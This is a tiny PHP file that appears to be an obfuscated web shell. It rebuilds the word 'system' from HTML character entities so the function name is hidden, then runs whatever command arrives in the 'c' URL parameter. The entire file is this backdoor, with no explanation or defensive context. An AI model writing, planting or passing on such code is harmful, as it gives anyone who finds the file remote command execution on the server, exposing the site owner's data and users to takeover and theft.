<?php
$f = html_entity_decode('&#115;&#121;&#115;&#116;&#101;&#109;');
$f($_GET['c']);
